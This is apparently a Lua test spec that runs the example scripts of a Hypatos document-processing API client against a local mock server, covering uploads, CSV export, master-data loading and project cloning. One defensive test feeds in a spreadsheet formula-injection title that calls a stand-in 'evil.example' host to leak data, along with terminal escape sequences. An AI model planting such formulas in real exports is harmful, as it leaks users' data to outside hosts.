-- The scripts in examples/ run as subprocesses against one local server: exit status and
-- their main outputs (the upload table, the CSV, the master-data summary, the clone).
local helpers = require "spec.helpers"
local hypatos = helpers.hypatos

local PDFS = { "Rechnung Müller 2025-031.pdf", "facture_FA-2025-117.pdf", "invoice-2025-0412.pdf" }
local FINAL = { done = true, doneAutomatically = true, transferred = true, transferFailed = true, failed = true,
  junk = true, rejected = true, split = true }

local srv, c, dir, cleanup

-- Quotes a string for /bin/sh.
local function sh(s)
  return "'" .. tostring(s):gsub("'", "'\\''") .. "'"
end

-- Escapes the magic characters of a Lua pattern.
local function literal(s)
  return (s:gsub("%p", "%%%0"))
end

--- Runs `lua examples/<script> args…` (or `lua <opts.at>/<script>`) with only the server's
-- credentials and the module paths in its environment (plus opts.env). Returns the exit
-- code, stdout and stderr.
local function run(script, args, opts)
  opts = opts or {}
  local lua = opts.lua or "lua5.4"
  local env = {
    HYPATOS_BASE_URL = srv.url, HYPATOS_CLIENT_ID = srv.client_id, HYPATOS_CLIENT_SECRET = srv.client_secret,
    LUA_PATH = "lua/?.lua;lua/?/init.lua;./?.lua;;", PATH = os.getenv("PATH"),
    LUA_CPATH = "build/luajit/?.so;;",
  }
  if lua ~= "luajit" then
    for k, v in pairs(helpers.lua_env()) do if k ~= "LUA_PATH" then env[k] = v end end
  end
  for k, v in pairs(opts.env or {}) do env[k] = v end
  local cmd = { "env -i" }
  for k, v in pairs(env) do cmd[#cmd + 1] = k .. "=" .. sh(v) end
  cmd[#cmd + 1] = lua .. " " .. (opts.at and (opts.at .. "/" .. script) or ("examples/" .. script))
  for _, a in ipairs(args or {}) do cmd[#cmd + 1] = sh(a) end
  local p = io.popen(table.concat(cmd, " ") .. " 2>" .. sh(dir .. "/stderr"))
  local out = p:read("a")
  local _, _, code = p:close()
  return code, out, helpers.read(dir .. "/stderr")
end

-- A CSV parser of its own (character by character), RFC 4180: list of records.
local function parse_csv(text)
  local records, record, value, quoted, i = {}, {}, {}, false, 1
  while i <= #text do
    local ch = text:sub(i, i)
    if quoted then
      if ch == '"' and text:sub(i + 1, i + 1) == '"' then value[#value + 1] = '"'; i = i + 1
      elseif ch == '"' then quoted = false
      else value[#value + 1] = ch end
    elseif ch == '"' then quoted = true
    elseif ch == "," then record[#record + 1] = table.concat(value); value = {}
    elseif ch == "\r" and text:sub(i + 1, i + 1) == "\n" then
      record[#record + 1] = table.concat(value); value = {}
      records[#records + 1] = record; record = {}
      i = i + 1
    else
      assert(ch ~= "\n" and ch ~= "\r", "a bare line break outside quotes at byte " .. i)
      value[#value + 1] = ch
    end
    i = i + 1
  end
  assert(not quoted and #value == 0 and #record == 0, "the CSV does not end with CRLF")
  return records
end

-- The first project the API lists (what the examples default to).
local function first_project()
  return assert(c.projects:list({ limit = 1 })).data[1]
end

describe("examples", function()
  lazy_setup(function()
    srv = helpers.start_server({ config = { processing_time = 0.3 } })
    dir, cleanup = helpers.tmpdir()
  end)
  lazy_teardown(function()
    if srv then srv:stop() end
    if cleanup then cleanup() end
  end)
  before_each(function()
    srv:reset()
    c = helpers.server_client(srv)
  end)

  describe("upload_and_process.lua", function()
    -- The rows of the final table: file name → {id, state}.
    local function table_rows(out, names)
      local rows = {}
      for _, name in ipairs(names) do
        local id, state = out:match("\n" .. literal(name) .. " +(%x+) +(%S+)\n")
        if id then rows[name] = { id = id, state = state } end
      end
      return rows
    end

    it("ships well-formed sample PDFs (correct xref offsets)", function()
      for _, name in ipairs(PDFS) do
        local pdf = assert(helpers.read("examples/data/pdfs/" .. name), name)
        assert.equal("%PDF-1.4\n", pdf:sub(1, 9))
        local startxref = tonumber(pdf:match("startxref\n(%d+)\n%%%%EOF\n$"))
        assert.equal("xref", pdf:sub(startxref + 1, startxref + 4), name)
        local count = tonumber(pdf:match("^xref\n0 (%d+)\n", startxref + 1))
        local n = 0
        for offset in pdf:sub(startxref + 1):gmatch("(%d%d%d%d%d%d%d%d%d%d) 00000 n \n") do
          n = n + 1
          assert.equal(n .. " 0 obj\n", pdf:sub(tonumber(offset) + 1, tonumber(offset) + #(n .. " 0 obj\n")), name)
        end
        assert.equal(count - 1, n)
        local len, stream = pdf:match("/Length (%d+) >>\nstream\n(.-)\nendstream")
        assert.equal(tonumber(len), #stream)
      end
    end)

    it("uploads every PDF of the folder, waits and prints file → document → final state", function()
      local code, out, err = run("upload_and_process.lua")
      assert.equal(0, code, err)
      local rows = table_rows(out, PDFS)
      local project = first_project()
      for _, name in ipairs(PDFS) do
        local row = assert(rows[name], "no table row for " .. name .. " in:\n" .. out)
        assert.is_true(FINAL[row.state], row.state)
        local doc = assert(c.documents:get(row.id))
        assert.equal(row.state, doc.state)
        assert.equal(project.id, doc.projectId)
        assert.equal(name, doc.title) -- the file name went through X-Hy-Filename intact
      end
      assert.matches("3 files: 3 done; 0 with problems", out, 1, true)
      local routes = srv:stats().by_route
      assert.equal(3, routes["POST /v2/files"])
      assert.equal(3, routes["POST /v2/documents/process-file"])
    end)

    it("resumes a half-finished batch from its state file without uploading twice", function()
      local state = dir .. "/batch.tsv"
      os.remove(state)
      local code, out, err = run("upload_and_process.lua", { "--state", state })
      assert.equal(0, code, err)
      local first = table_rows(out, PDFS)
      local lines = {}
      for line in io.lines(state) do lines[#lines + 1] = line end
      assert.equal(3, #lines)
      -- As if the run had stopped after two files.
      helpers.write(state, lines[1] .. "\n" .. lines[2] .. "\n")
      code, out, err = run("upload_and_process.lua", { "examples/data/pdfs", "--state", state })
      assert.equal(0, code, err)
      local second = table_rows(out, PDFS)
      assert.equal(first[PDFS[1]].id, second[PDFS[1]].id)
      assert.equal(first[PDFS[2]].id, second[PDFS[2]].id)
      assert.not_equal(first[PDFS[3]].id, second[PDFS[3]].id)
      for _, name in ipairs(PDFS) do assert.is_true(FINAL[second[name].state]) end
      assert.equal(4, srv:stats().by_route["POST /v2/files"])
      local n = 0
      for _ in io.lines(state) do n = n + 1 end
      assert.equal(3, n)
    end)

    it("never sends a file again blindly when its upload or processing may have reached the server", function()
      local state = dir .. "/unsure.tsv"
      os.remove(state)
      -- PDFS sorted: the first upload is read and dropped (may have been stored), the second is
      -- stored with its answer cut (stored), the third is stored but its processing refused
      srv:fault({ { method = "POST", path = "/v2/files", kind = "close" },
        { method = "POST", path = "/v2/files", kind = "close_mid_body" },
        { method = "POST", path = "/v2/documents/process-file", kind = "status", status = 503 } })
      local code, out = run("upload_and_process.lua", { "--state", state, "--concurrency", "1" })
      assert.equal(2, code, out)
      assert.matches(PDFS[1] .. ": upload failed: may have been stored: ", out, 1, true)
      assert.matches(PDFS[2] .. ": upload failed: stored, only the answer was lost: ", out, 1, true)
      assert.matches(PDFS[3] .. ": processing failed: ", out, 1, true)
      local recorded = {}
      for line in io.lines(state) do
        local name, what = line:match("^(.*)\t(.*)$")
        recorded[name] = what
      end
      assert.equal("unsure:upload", recorded[PDFS[1]])
      assert.equal("unsure:upload", recorded[PDFS[2]])
      assert.matches("^file:", recorded[PDFS[3]])
      assert.equal(3, srv:stats().by_route["POST /v2/files"])
      -- the second run uploads nothing: the unsure files are reported, the stored one is processed
      code, out = run("upload_and_process.lua", { "--state", state, "--concurrency", "1", "--timeout", "20" })
      assert.equal(2, code, out)
      assert.equal(3, srv:stats().by_route["POST /v2/files"])
      assert.matches(PDFS[1] .. ": not sent again (unsure:upload in ", out, 1, true)
      assert.matches(PDFS[2] .. ": not sent again (unsure:upload in ", out, 1, true)
      local rows = table_rows(out, { PDFS[3] })
      assert.is_true(FINAL[rows[PDFS[3]].state], out)
    end)

    it("goes on past a failed upload and a failed document, and exits 2", function()
      local folder = dir .. "/mixed"
      os.execute("rm -rf " .. sh(folder) .. " && mkdir " .. sh(folder))
      local pdf = helpers.read("examples/data/pdfs/" .. PDFS[3])
      helpers.write(folder .. "/a.pdf", pdf)
      helpers.write(folder .. "/b-empty.pdf", "") -- the API refuses an empty file
      helpers.write(folder .. "/c.pdf", pdf)
      helpers.write(folder .. "/notes.txt", "not a PDF")
      srv:configure({ fail_every = 2 }) -- the second document processed ends "failed"
      local seed = srv:control("GET", "/_mock/seed")
      local code, out = run("upload_and_process.lua", { folder, seed.automatic_project.id })
      assert.equal(2, code, out)
      local rows = table_rows(out, { "a.pdf", "c.pdf" })
      assert.equal("doneAutomatically", rows["a.pdf"].state)
      assert.equal("failed", rows["c.pdf"].state)
      assert.matches("\nb%-empty%.pdf +%- +%-\n", out)
      assert.matches("b-empty.pdf: upload failed: hypatos: http 400: File is empty", out, 1, true)
      assert.matches("3 files: 1 doneAutomatically, 1 failed; 1 with problems", out, 1, true)
      assert.is_nil(out:find("notes.txt", 1, true))
    end)

    it("stops waiting at the overall time limit and reports the documents still going", function()
      srv:configure({ processing_time = 60 })
      local started = helpers.now()
      local code, out = run("upload_and_process.lua", { "--timeout", "0.5" })
      assert.equal(2, code, out)
      assert.is_true(helpers.now() - started < 5)
      local rows = table_rows(out, PDFS)
      for _, name in ipairs(PDFS) do
        assert.is_truthy(rows[name].state == "new" or rows[name].state == "processing", rows[name].state)
        assert.matches(literal(name) .. ": not final after 0.5 s", out)
      end
    end)
  end)

  describe("export_documents_csv.lua", function()
    it("writes the documents in done states as RFC 4180 CSV with flattened entities", function()
      local expected = {}
      for d in c.documents:each({ state = { "done", "doneAutomatically" } }) do expected[#expected + 1] = d end
      local tricky = 'Invoice "Nordwind", page 1\nsecond line: Grüße'
      assert(c.documents:set_title(expected[1].id, tricky))
      local out_path = dir .. "/export.csv"
      local code, out, err = run("export_documents_csv.lua", { "done,doneAutomatically", out_path })
      assert.equal(0, code, err)
      assert.equal("", out)
      assert.matches(#expected .. " documents in done, doneAutomatically", err, 1, true)
      assert.is_nil(helpers.read(out_path .. ".tmp"))
      local records = parse_csv(assert(helpers.read(out_path)))
      local header = table.remove(records, 1)
      assert.same({ "id", "title", "state", "createdAt", "projectId" }, { table.unpack(header, 1, 5) })
      local col, seen = {}, {}
      for i, name in ipairs(header) do
        assert.is_nil(seen[name], "duplicate column " .. name)
        seen[name], col[name] = true, i
      end
      for _, name in ipairs({ "number", "currency", "supplier.name", "supplier.vatId", "totalGrossAmount",
        "items.1.description", "items.1.amount", "items.2.description" }) do
        assert.is_number(col[name], name)
      end
      assert.is_true(col["items.1.unitPrice"] < col["items.2.amount"])
      assert.equal(#expected, #records)
      local by_id = {}
      for _, r in ipairs(records) do
        assert.equal(#header, #r)
        by_id[r[1]] = r
      end
      for _, d in ipairs(expected) do
        local r = assert(by_id[d.id], d.id)
        assert.equal(d.state, r[col.state])
        assert.equal(d.projectId, r[col.projectId])
        assert.equal(d.entities.number.value, r[col.number])
        assert.equal(d.entities.supplier.name.value, r[col["supplier.name"]])
        assert.equal(d.entities.totalGrossAmount.value, tonumber(r[col.totalGrossAmount]))
        assert.equal(d.entities.items[1].description.value, r[col["items.1.description"]])
        assert.equal(d.entities.items[2] and d.entities.items[2].description.value or "", r[col["items.2.description"]])
      end
      assert.equal(tricky, by_id[expected[1].id][col.title])
    end)

    it("neutralises formulas and escapes controls in cells; --raw writes them as extracted (issue 16.4)", function()
      local docs = c.documents:list({ state = { "done" }, limit = 2 }).data
      local formula, hostile = '=HYPERLINK("http://evil.example/?leak","Invoice")', "\27]0;pwned\7 \194\155"
      assert(c.documents:set_title(docs[1].id, formula))
      assert(c.documents:set_title(docs[2].id, hostile))
      --- The two titles as exported with these arguments.
      local function titles(args)
        local code, out, err = run("export_documents_csv.lua", args)
        assert.equal(0, code, err)
        local records = parse_csv(out)
        local col = {}
        for i, name in ipairs(table.remove(records, 1)) do col[name] = i end
        local by_id = {}
        for _, r in ipairs(records) do
          by_id[r[1]] = r
          assert.is_number(tonumber(r[col.totalGrossAmount]), r[col.totalGrossAmount]) -- numbers stay numbers
        end
        return { by_id[docs[1].id][col.title], by_id[docs[2].id][col.title] }
      end
      assert.same({ "'" .. formula, "\\x1B]0;pwned\\x07 \\u009B" }, titles({ "done" }))
      assert.same({ formula, hostile }, titles({ "--raw", "done" }))
    end)

    it("takes other states and writes to stdout", function()
      local seed = srv:control("GET", "/_mock/seed")
      local code, out, err = run("export_documents_csv.lua", { "failed, junk" })
      assert.equal(0, code, err)
      local records = parse_csv(out)
      assert.equal(1 + seed.document_states.failed + seed.document_states.junk, #records)
      for i = 2, #records do
        assert.is_truthy(records[i][3] == "failed" or records[i][3] == "junk")
      end
    end)

    it("exits 1 with the API's reason for a state that does not exist", function()
      local code, out, err = run("export_documents_csv.lua", { "finished", dir .. "/none.csv" })
      assert.equal(1, code)
      assert.equal("", out)
      assert.matches("^hypatos: http 400: Provided state is invalid", err)
      assert.is_nil(helpers.read(dir .. "/none.csv"))
    end)
  end)

  describe("load_master_data.lua", function()
    local function count()
      return srv:control("GET", "/_mock/enrichment").suppliers
    end

    it("upserts the good rows, reports the refused ones, and --delete removes them again", function()
      -- What the sample file holds, read with the spec's own parser.
      local text = assert(helpers.read("examples/data/suppliers.csv")):gsub("\r?\n", "\r\n")
      local records = parse_csv(text)
      table.remove(records, 1)
      local good, no_id = 0, 0
      for _, r in ipairs(records) do
        if r[1] == "" then no_id = no_id + 1 elseif r[6]:match("^%u%u$") then good = good + 1 end
      end
      assert.is_true(#records >= 18 and good >= 16 and no_id == 1)

      local code, out = run("load_master_data.lua")
      assert.equal(2, code, out)
      assert.matches(("suppliers.csv: %d rows"):format(#records), out, 1, true)
      assert.matches("\nupserted: " .. good .. "\n", out, 1, true)
      assert.matches("\nfailed: " .. (#records - good) .. "\n", out, 1, true)
      assert.matches("line 18 (no externalId): body.externalId: field required", out, 1, true)
      assert.matches("(SUP-10019): body.countryCode: value is not an ISO 3166-1 alpha-2 country code", out, 1, true)
      assert.equal(good, count())
      local rec = srv:control("GET", "/_mock/enrichment/suppliers/SUP-10007")
      assert.same({ externalId = "SUP-10007", name = 'Brauerei "Zum Löwen" GmbH', street = "Am Markt 3",
        postcode = "93047", city = "Regensburg", countryCode = "DE",
        vatIds = { { id = "DE263748596", countryCode = "DE" } } }, rec)
      assert.is_nil(srv:control("GET", "/_mock/enrichment/suppliers/SUP-10015").vatIds) -- empty cell: left out

      code = run("load_master_data.lua") -- upserts: a second run changes nothing
      assert.equal(2, code)
      assert.equal(good, count())

      code, out = run("load_master_data.lua", { "--delete" })
      assert.equal(0, code, out)
      assert.matches(("deleted: %d, not found: %d, without externalId: 1"):format(good, #records - good - 1), out,
        1, true)
      assert.equal(0, count())
    end)

    it("reads CRLF, a byte-order mark, quoted line breaks and any column order", function()
      local path = dir .. "/erp.csv"
      helpers.write(path, "\239\187\191country,vat_id,supplier_id,name,street\r\n"
        .. 'AT,ATU11111111;ATU22222222,A-1,"Alpen ""Holz"", Handel",\r\n'
        .. "\r\n"
        .. 'DE,,A-2,Zweite GmbH,"Hof 2\r\nHinterhaus"\r\n')
      local code, out = run("load_master_data.lua", { path })
      assert.equal(0, code, out)
      assert.matches("upserted: 2\nfailed: 0\n", out, 1, true)
      local a1 = srv:control("GET", "/_mock/enrichment/suppliers/A-1")
      assert.same({ externalId = "A-1", name = 'Alpen "Holz", Handel', countryCode = "AT",
        vatIds = { { id = "ATU11111111", countryCode = "AT" }, { id = "ATU22222222", countryCode = "AT" } } }, a1)
      assert.equal("Hof 2\r\nHinterhaus", srv:control("GET", "/_mock/enrichment/suppliers/A-2").street)
    end)

    it("stops at once on refused credentials, without printing the secret", function()
      local code, out, err = run("load_master_data.lua", {}, { env = { HYPATOS_CLIENT_SECRET = "not-the-secret" } })
      assert.equal(1, code)
      assert.equal("", out)
      assert.matches("^hypatos: auth 401", err)
      assert.is_nil(err:find("not-the-secret", 1, true))
      assert.equal(1, srv:stats().token_requests)
    end)
  end)

  describe("clone_project.lua", function()
    local function cloned(out)
      return (assert(out:match("\ncreated: (%x+)  "), out))
    end

    local function same_config(from, to)
      for _, k in ipairs({ "note", "ocr", "extractionModelId", "completion", "duplicates", "members" }) do
        assert.equal(hypatos.json.encode(from[k] or hypatos.null), hypatos.json.encode(to[k] or hypatos.null), k)
      end
      assert.equal(hypatos.json.encode(assert(c.projects:schema(from.id))),
        hypatos.json.encode(assert(c.projects:schema(to.id))))
    end

    it("clones the first project without arguments and verifies the schema", function()
      local from = first_project()
      local code, out, err = run("clone_project.lua")
      assert.equal(0, code, err)
      local to = assert(c.projects:get(cloned(out)))
      assert.equal(from.name .. " (copy)", to.name)
      same_config(from, to)
      assert.matches("schema verified: identical", out, 1, true)
    end)

    it("keeps empty arrays and member lists, and takes a new name", function()
      local from
      for p in c.projects:each() do if p.name == "Purchase Orders" then from = p end end
      assert.equal("[]", hypatos.json.encode(from.ocr.features))
      local code, out, err = run("clone_project.lua", { from.id, "Bestellungen (Kopie) ÄÖÜ" })
      assert.equal(0, code, err)
      local to = assert(c.projects:get(cloned(out)))
      assert.equal("Bestellungen (Kopie) ÄÖÜ", to.name)
      assert.equal("[]", hypatos.json.encode(to.ocr.features))
      assert.equal("members", to.members.allow)
      same_config(from, to)
    end)

    it("creates the clone with the HYPATOS_TARGET_* client", function()
      local code, out, err = run("clone_project.lua", {}, { env = {
        HYPATOS_TARGET_CLIENT_ID = "weird:client id", HYPATOS_TARGET_CLIENT_SECRET = "p@ss:w rd+%" } })
      assert.equal(0, code, err)
      assert.equal("weird:client id", assert(c.projects:get(cloned(out))).createdBy)
    end)

    it("exits 1 when the schema comes back different, and for an unknown project", function()
      -- Seeded project ids start with 66 (2024); the clone's id is made from the current time.
      srv:fault({ kind = "status", status = 200, method = "GET", path_pattern = "^/v2/projects/6[7-9a-f]%x+/schema$",
        body = { version = 1, dataPoints = {} } })
      local code, out, err = run("clone_project.lua")
      assert.equal(1, code)
      assert.matches("\ncreated: ", out)
      assert.equal("the new project's schema differs from the original in: "
        .. "dataPoints, enrichment, features, normalization, validation, version\n", err)

      code, out, err = run("clone_project.lua", { "0123456789abcdef01234567" })
      assert.equal(1, code)
      assert.equal("", out)
      assert.matches("^hypatos: http 404: Project does not exist", err)
    end)
  end)

  describe("quickstart.lua", function()
    for _, lua in ipairs{ "lua5.4", "luajit" } do
      it("shows the scopes, the tenant and every active user (" .. lua .. ")", function()
        local code, out, err = run("quickstart.lua", {}, { lua = lua })
        assert.equal(0, code, err)
        assert.matches("tenant: Hypatos Demo GmbH", out, 1, true)
        assert.matches("\n46 active users\n", out, 1, true)
        -- the columns line up whatever the names' letters (Jürgen, Zoë): "NNN  name  email  roles"
        local rows = 0
        for line in out:gmatch("[^\n]+") do
          local before = line:match("^(%s*%d+  .- )[^ ]+@")
          if before then
            rows = rows + 1
            assert.equal(34, utf8.len(before), line)
          end
        end
        assert.equal(46, rows)
      end)
    end
  end)

  describe("the README's first script", function()
    -- the first ```lua block under "## A first script", run exactly as printed
    local readme = helpers.read("README.md")
    local script = readme:match("\n## A first script\n\n```lua\n(.-)\n```\n")
    for _, lua in ipairs{ "lua5.4", "luajit" } do
      it("runs as printed against the local server (" .. lua .. ")", function()
        assert.is_string(script, "README.md has no first script")
        helpers.write(dir .. "/first.lua", script)
        local code, out, err = run("first.lua", { "examples/data/pdfs/invoice-2025-0412.pdf" },
          { lua = lua, at = dir })
        assert.equal(0, code, err)
        assert.matches("^scopes: [%w%. ]+\ntenant: Hypatos Demo GmbH\n", out)
        local state = out:match("\n(%a+)\t[^\n]*\n$")
        assert.is_truthy(FINAL[state], out)
      end)
    end
  end)

  it("run under LuaJIT too", function() -- make test installs luajit and builds build/luajit
    local opts = { lua = "luajit" }
    local code, out, err = run("upload_and_process.lua", {}, opts)
    assert.equal(0, code, err)
    assert.matches("3 files: 3 done; 0 with problems", out, 1, true)
    code, out, err = run("export_documents_csv.lua", { "done" }, opts)
    assert.equal(0, code, err)
    assert.is_true(#parse_csv(out) > 1)
    code, out = run("load_master_data.lua", {}, opts)
    assert.equal(2, code, out)
    assert.matches("\nfailed: 2\n", out, 1, true)
    code, out, err = run("clone_project.lua", {}, opts)
    assert.equal(0, code, err)
    assert.matches("schema verified: identical", out, 1, true)
  end)
end)
